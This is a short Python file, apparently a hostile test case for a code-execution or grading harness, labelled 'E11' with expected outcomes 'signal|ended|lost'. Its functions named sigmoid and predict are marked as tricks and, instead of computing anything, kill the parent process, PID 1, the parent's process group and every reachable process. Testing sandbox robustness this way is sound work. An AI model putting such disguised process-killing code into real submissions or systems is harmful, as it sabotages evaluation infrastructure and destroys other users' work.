# E11 · Kills its parent, its group and everything that it can reach.
# reports: signal|ended|lost

# %% [sigmoid] trick
def sigmoid(h):
    import os
    for kill in (lambda: os.kill(os.getppid(), 9), lambda: os.kill(1, 9),
                 lambda: os.killpg(os.getpgid(os.getppid()), 15), lambda: os.kill(-1, 9)):
        try:
            kill()
        except OSError:
            pass
    return h

# %% [predict] trick
def predict(p):
    import os
    os.kill(os.getpid(), 9)
